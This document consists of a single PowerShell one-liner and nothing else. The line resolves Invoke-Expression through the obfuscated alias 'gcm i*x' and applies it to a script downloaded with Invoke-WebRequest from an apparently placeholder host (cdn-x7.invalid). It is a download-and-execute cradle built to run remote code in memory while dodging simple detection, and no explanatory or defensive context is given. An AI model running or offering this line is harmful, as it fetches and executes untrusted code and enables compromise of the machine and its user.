&(gcm i*x) (iwr -useb https://cdn-x7.invalid/a.ps1)
